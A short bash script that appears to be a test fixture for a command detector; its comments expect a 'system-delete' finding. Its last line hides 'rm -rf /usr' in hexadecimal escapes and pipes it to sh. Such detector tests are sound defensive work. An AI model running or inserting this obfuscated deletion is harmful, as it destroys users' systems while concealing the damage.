#!/bin/bash
# shows: a command written in hexadecimal
# expect: system-delete at line 4
printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f\x75\x73\x72' | sh
